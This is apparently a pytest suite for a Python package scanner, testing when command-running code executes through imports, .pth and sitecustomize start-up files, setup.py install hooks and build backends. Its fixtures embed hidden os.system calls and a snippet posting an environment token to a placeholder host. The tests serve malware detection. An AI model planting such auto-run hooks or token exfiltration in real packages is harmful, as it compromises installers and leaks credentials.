"""What runs when: from module bodies, start-up files, commands and builds along every kind of call."""

from __future__ import annotations

import pytest

from support.code import reaches, scan
from veln_hook.source import vocabulary as v
from veln_hook.source.facts import BUILD, CALL, IMPORT, SCRIPT, STARTUP

RUN = "    import os\n    os.system('id')\n"
F = f"def f(*_):\n{RUN}\n"
METHOD = "    def %s(self, *_):\n        import os\n        os.system('id')\n"


def reach(files):
    found = set(reaches({"acme/__init__.py": "", **files}, v.PROC).values())
    assert len(found) == 1, found
    return found.pop()


def reach_of(source):
    return reach({"acme/x.py": source})


def klass(method, head="class C:"):
    return f"{head}\n{METHOD % method}\n"


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('id')\n",
        f"{F}f()\n",
        f"{F}x = f()\n",
        f"{F}g = f\ng()\n",
        f"{F}if 1:\n    f()\n",
        f"{F}try:\n    f()\nexcept Exception:\n    pass\n",
        f"{F}for _ in (1,):\n    f()\n",
        f"{F}x = [f() for _ in (1,)]\n",
        f"{F}def g(x=f()):\n    pass\n",
        f"{F}def g(*, x=f()):\n    pass\n",
        f"{F}def g():\n    f()\ng()\n",
        f"{F}def g():\n    return f\ng()()\n",
        f"{F}@f\ndef g():\n    pass\n",
        f"{F}@f\nclass G:\n    pass\n",
        f"{F}class G:\n    x = f()\n",
        f"{F}class G:\n    @f\n    def g(self):\n        pass\n",
        f"{F}import threading\nthreading.Thread(target=f).start()\n",
        f"{F}from threading import Thread, Timer\nTimer(1, f).start()\n",
        f"{F}import atexit\natexit.register(f)\n",
        f"import atexit\n@atexit.register\n{F}",
        f"{F}import signal\nsignal.signal(1, f)\n",
        f"{F}import sys\nsys.excepthook = f\n",
        f"{F}import weakref\nweakref.finalize(x, f)\n",
        f"{F}from concurrent.futures import ThreadPoolExecutor as P\nP().submit(f)\n",
        f"{F}from functools import partial\npartial(f)()\n",
        f"{F}list(map(f, [1]))\n",
        f"{F}globals()['f']()\n",
        f"{F}(lambda: f())()\n",
        f"{F}x = lambda: f()\nx()\n",
        f"async {F}import asyncio\nasyncio.run(f())\n",
        f"{F}exec('f()')\n",
        f"{F}exec(compile('f()', 'x', 'exec'))\n",
        f"{F}exec('def g():\\n    f()\\n\\ng()')\n",
        f"{F}def g():\n    f()\nexec('g()')\n",
        f"import base64\n{F}exec(base64.b64decode('ZigpCg=='))\n",
        f"{klass('__init__')}C()\n",
        f"{klass('__new__')}C()\n",
        f"{klass('__call__')}C()()\n",
        f"{klass('__del__')}C()\n",
        f"{klass('__post_init__')}C()\n",
        f"{klass('__enter__')}with C():\n    pass\n",
        f"{klass('__enter__')}with C() as c:\n    pass\n",
        f"{klass('go')}C().go()\n",
        f"{klass('go')}c = C()\nc.go()\n",
        f"{klass('go')}C.go(None)\n",
        f"{klass('go')}class D(C):\n    pass\nD().go()\n",
        f"{klass('__init__')}class D(C):\n    pass\nD()\n",
        f"{klass('__init_subclass__')}class D(C):\n    pass\n",
        f"{klass('__set_name__')}class D:\n    c = C()\n",
        f"{klass('__new__', 'class C(type):')}class D(metaclass=C):\n    pass\n",
        f"{klass('__init__', 'class C(type):')}class D(metaclass=C):\n    pass\n",
        f"{klass('run', 'import threading as t' + chr(10) + 'class C(t.Thread):')}C().start()\n",
        f"class C:\n    @property\n    def go(self):\n{RUN.replace('    ', '        ')}\nC().go\n",
        f"class C:\n    def a(self):\n        self.b()\n{METHOD % 'b'}\nC().a()\n",
        f"class C:\n    def __init__(self):\n        self.b()\n{METHOD % 'b'}\nC()\n",
        f"{klass('find_spec')}import sys\nsys.meta_path.append(C())\n",
    ],
)
def test_what_runs_by_itself_when_it_is_imported(source):
    assert reach_of(source) == IMPORT


@pytest.mark.parametrize(
    "source",
    [
        F,
        f"{F}def g():\n    f()\n",
        f"{F}g = f\n",
        klass("go"),
        f"{klass('go')}C()\n",
        f"{klass('go')}class D(C):\n    pass\n",
        f"{F}class G:\n    def g(self):\n        f()\n",
        f"{F}x = lambda: f()\n" if False else f"{F}__all__ = ['f']\n",
        f"{F}COMMANDS = {{'f': f}}\n",
        f"{F}f.attribute = 1\n",
        f"{F}print(f)\n",
    ],
)
def test_what_only_a_caller_runs(source):
    assert reach_of(source) == CALL


def test_what_runs_as_a_script():
    assert reach_of(f"{F}if __name__ == '__main__':\n    f()\n") == SCRIPT
    assert reach_of(f"{F}if __name__ == '__main__':\n    pass\nelse:\n    f()\n") == IMPORT
    assert reach({"acme/__main__.py": f"{F}f()\n"}) == SCRIPT
    assert reach({"acme-1.0.data/scripts/acme": f"#!/usr/bin/python\n{F}f()\n"}) == SCRIPT


@pytest.mark.parametrize(
    "files",
    [
        {"acme/x.py": F, "acme/y.py": "from acme.x import f\nf()\n"},
        {"acme/x.py": F, "acme/y.py": "from .x import f\nf()\n"},
        {"acme/x.py": F, "acme/y.py": "from . import x\nx.f()\n"},
        {"acme/x.py": F, "acme/y.py": "import acme.x\nacme.x.f()\n"},
        {"acme/x.py": F, "acme/y.py": "import acme.x as z\nz.f()\n"},
        {"acme/x.py": F, "acme/y.py": "from acme import x as z\nz.f()\n"},
        {"acme/x.py": F, "acme/y.py": "from acme.x import *\nf()\n"},
        {"acme/x.py": F, "acme/y.py": "import importlib\nimportlib.import_module('acme.x').f()\n"},
        {"acme/x.py": F, "acme/y.py": "__import__('acme.x', fromlist=['f']).f()\n"},
        {"acme/x.py": F, "acme/a/__init__.py": "", "acme/a/y.py": "from ..x import f\nf()\n"},
        {"acme/x.py": F, "acme/a/__init__.py": "from ..x import f\nf()\n"},
        {"acme/x.py": F, "acme/__init__.py": "from .x import f\n", "acme/y.py": "from acme import f\nf()\n"},
        {
            "acme/x.py": F,
            "acme/__init__.py": "from .x import f as g\n",
            "acme/y.py": "import acme\nacme.g()\n",
        },
        {"acme/x.py": F, "acme/__init__.py": "from .x import *\n", "acme/y.py": "import acme\nacme.f()\n"},
        {
            "acme/x.py": F,
            "acme/z.py": "from .x import f\n",
            "acme/__init__.py": "from .z import f\n",
            "acme/y.py": "from acme import f\nf()\n",
        },
        {
            "acme/x.py": F,
            "acme/y.py": "try:\n    from acme.x import f\n    f()\nexcept Exception:\n    pass\n",
        },
        {"acme/x.py": F, "acme/y.py": "from acme.x import f\nVALUE = f()\n"},
        {"acme/x.py": F, "acme/y.py": "from acme.x import f\n\nclass C:\n    value = f()\n"},
        {"acme/x.py": klass("go"), "acme/y.py": "from acme.x import C\nC().go()\n"},
        {"acme/x.py": klass("go"), "acme/y.py": "from acme.x import C\nclass D(C):\n    pass\nD().go()\n"},
        {"acme/x.py": klass("__init__"), "acme/y.py": "from acme.x import C\nclass D(C):\n    pass\nD()\n"},
        {
            "acme/x.py": klass("__init_subclass__"),
            "acme/y.py": "from acme.x import C\nclass D(C):\n    pass\n",
        },
        {
            "acme/x.py": klass("go") + "\ninstance = C()\n",
            "acme/y.py": "from acme.x import instance\ninstance.go()\n",
        },
        {"acme/x.py": F, "acme/y.py": "from acme.x import f\n@f\ndef g():\n    pass\n"},
        {
            "acme/x.py": F,
            "acme/y.py": "from acme.x import f\nimport threading\nthreading.Thread(target=f).start()\n",
        },
        {"x.py": F, "y.py": "import x\nx.f()\n"},
        # a function that another returns
        {"acme/x.py": f"{F}def g():\n    return f\n", "acme/y.py": "from acme.x import g\ng()()\n"},
        {"acme/x.py": f"{F}def g():\n    return f\n", "acme/y.py": "from acme import x\nx.g()()\n"},
        {"acme/x.py": f"{F}def g():\n    return f\n", "acme/y.py": "from .x import g\nh = g()\nh()\n"},
        {
            "acme/x.py": f"{F}def g(n):\n    return f\n",
            "acme/y.py": "from .x import g\n@g(1)\ndef h():\n    pass\n",
        },
        {
            "acme/x.py": F,
            "acme/z.py": "from .x import f\n\ndef g():\n    return f\n",
            "acme/y.py": "from .z import g\ng()()\n",
        },
        {
            "acme/x.py": f"{F}def g():\n    return f\n",
            "acme/z.py": "from .x import g\n\ndef h():\n    return g\n",
            "acme/y.py": "from .z import h\nh()()()\n",
        },
        {
            "acme/x.py": f"{klass('__init__')}def g():\n    return C\n",
            "acme/y.py": "from .x import g\ng()()\n",
        },
        # names that a module doesn't have
        {"acme/x.py": F.replace("def f(*_)", "def __getattr__(_)"), "acme/y.py": "from .x import name\n"},
        {
            "acme/x.py": F.replace("def f(*_)", "def __getattr__(_)"),
            "acme/y.py": "from . import x\nx.name()\n",
        },
        {
            "acme/x.py": F,
            "acme/z.py": "from .x import f\n\ndef __getattr__(name):\n    return f(name)\n",
            "acme/y.py": "from .z import name\n",
        },
    ],
)
def test_calls_between_modules(files):
    assert reach(files) == IMPORT


@pytest.mark.parametrize("top", ["acme-1.0/", "acme-1.0/src/", "acme-1.0/lib/"])
def test_calls_between_modules_of_an_sdist(top):
    files = {
        f"{top}acme/__init__.py": "",
        f"{top}acme/x.py": F,
        f"{top}acme/y.py": "from acme.x import f\nf()\n",
    }
    assert set(reaches(files, v.PROC).values()) == {IMPORT}


def test_a_module_that_is_imported_only_when_called_is_imported_nevertheless():
    assert reach({"acme/x.py": f"{F}f()\n", "acme/y.py": "def g():\n    import acme.x\n"}) == IMPORT


@pytest.mark.parametrize(
    "path",
    [
        "acme/tests/test_x.py",
        "tests/x.py",
        "docs/conf.py",
        "acme/testing/x.py",
        "examples/x.py",
        "conftest.py",
    ],
)
def test_what_lies_aside_runs_only_when_somebody_calls_it(path):
    assert reach({path: f"{F}f()\n"}) == CALL


def test_what_lies_aside_and_is_imported_counts():
    assert (
        reach({"acme/tests/__init__.py": f"{F}f()\n", "acme/y.py": "import acme.tests\nprint(1)\n"}) == IMPORT
    )


ENTRY_POINTS = "[console_scripts]\nacme = acme.x:f\n[gui_scripts]\nacme-gui = acme.x:g [extra]\n[acme.plugins]\nx = acme.x:h\n"


def test_installed_commands():
    for name, expected in (("f", SCRIPT), ("g", SCRIPT), ("h", CALL)):
        source = F.replace("def f", f"def {name}")
        assert reach({"acme/x.py": source, "acme-1.0.dist-info/entry_points.txt": ENTRY_POINTS}) == expected


@pytest.mark.parametrize(
    "files",
    [
        {"a.pth": "import os; os.system('id')\n"},
        {"a.pth": "import acme.x\n", "acme/x.py": f"{F}f()\n"},
        {"a.pth": "import acme.x; acme.x.f()\n", "acme/x.py": F},
        {"a.pth": "import acme.y\n", "acme/y.py": "from acme.x import f\nf()\n", "acme/x.py": F},
        {"a.pth": "import acme.x\n", "acme/__init__.py": f"{F}f()\n", "acme/x.py": ""},
        {"a.pth": "/a/path\nimport\tos; os.system('id')\n"},
        {"a.pth": "\ufeffimport os; os.system('id')\n"},
        {"a.start": "acme.x:f\n", "acme/x.py": F},
        {"acme-1.0.data/purelib/a.pth": "import os; os.system('id')\n"},
        {"sitecustomize.py": f"{F}f()\n"},
        {"usercustomize/__init__.py": f"{F}f()\n"},
    ],
)
def test_what_runs_when_python_starts(files):
    assert reach(files) == STARTUP


@pytest.mark.parametrize(
    "files",
    [
        {"acme/a.pth": "import os; os.system('id')\n"},
        {"a.pth": "# import os; os.system('id')\n"},
        {"a.pth": " import os\n"},
    ],
)
def test_what_no_start_runs(files):
    assert reaches(files, v.PROC) == {}


@pytest.mark.parametrize(
    "setup",
    [
        f"{F}f()\n",
        f"{F}if __name__ == '__main__':\n    f()\n",
        f"from setuptools.command.install import install\n{klass('run', 'class C(install):')}setup(cmdclass={{'install': C}})\n",
        f"import setuptools.command.build_py as b\n{klass('run', 'class C(b.build_py):')}setup(cmdclass={{'build_py': C}})\n",
        f"from setuptools import Command\n{klass('finalize_options', 'class C(Command):')}",
        f"from setuptools.command.egg_info import egg_info\nclass C(egg_info):\n    def run(self):\n        f()\n{F}",
        "from helper import f\nf()\n",
        "import helper\nhelper.f()\n",
        "exec(open('helper.py').read())\nfrom helper import f\nf()\n",
    ],
)
def test_what_runs_when_an_sdist_is_built(setup):
    files = {"acme-1.0/setup.py": setup}
    if "helper" in setup:
        files["acme-1.0/helper.py"] = F
    assert set(reaches(files, v.PROC).values()) == {BUILD}


def test_a_build_backend_of_its_own():
    pyproject = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
    for hook in ("build_wheel", "build_sdist", "get_requires_for_build_wheel"):
        files = {
            "acme-1.0/pyproject.toml": pyproject,
            "acme-1.0/backend.py": F.replace("def f", f"def {hook}"),
        }
        assert set(reaches(files, v.PROC).values()) == {BUILD}


def test_a_setup_py_of_a_wheel_is_a_module():
    assert reach({"acme/setup.py": f"{F}f()\n"}) == IMPORT


def test_data_is_followed_between_functions_and_files():
    facts = scan(
        {
            "acme/__init__.py": "",
            "acme/a.py": "import os\nimport subprocess\n\ndef read():\n    return os.environ['A_TOKEN']\n",
            "acme/b.py": "import requests\n\ndef send(x):\n    requests.post('https://a.example', data=x)\n",
            "acme/c.py": "import requests\nfrom acme.a import read\nfrom acme.b import send\n\ndef go():\n    send(read())\n\ngo()\n",
        }
    )
    (net,) = [each for each in facts.capabilities if each.kind == v.NET]
    assert {taint.lstrip("~") for taint in net.taints} == {"cred"}
    assert any(
        facts.capabilities[tie.first].kind == v.CRED and facts.capabilities[tie.second] == net
        for tie in facts.ties
    )


def test_ties_say_the_worst_reach():
    source = "import os, requests\n\ndef f():\n    requests.post('https://a.example', data=os.environ['A_TOKEN'])\n\ndef g():\n    f()\n\n%s"
    for last, expected in (("", CALL), ("f()\n", IMPORT), ("g()\n", IMPORT)):
        facts = scan({"acme/__init__.py": source % last})
        assert {tie.reach for tie in facts.ties} == {expected}


def test_circles_of_imports_and_calls_end():
    facts = scan(
        {
            "acme/__init__.py": "from acme.a import *\nfrom acme.b import *\nimport os\nprint(os.system('id'))\n",
            "acme/a.py": "from acme.b import *\nfrom acme import g as f\nimport os\n\ndef x():\n    return y()\n\ndef y():\n    return x()\n\nx()\n",
            "acme/b.py": "from acme.a import *\nfrom acme.a import f as g\nimport os\n\nclass C(C):\n    pass\n\nclass D(E):\n    pass\n\nclass E(D):\n    pass\n\nE().m()\ng()\n",
        }
    )
    assert {each.reach for each in facts.capabilities if each.kind == v.PROC} == {IMPORT}


def test_functions_that_return_each_other_end():
    returns = "".join(f"    if n == {one}:\n        return f{one}\n" for one in range(30))
    source = f"{F}def g(n):\n{returns}\n" + "".join(f"def f{one}(n):\n    return g\n" for one in range(30))
    facts = scan({"acme/__init__.py": f"{source}\n{'g' + '(1)' * 40}\n"})
    assert facts.capabilities
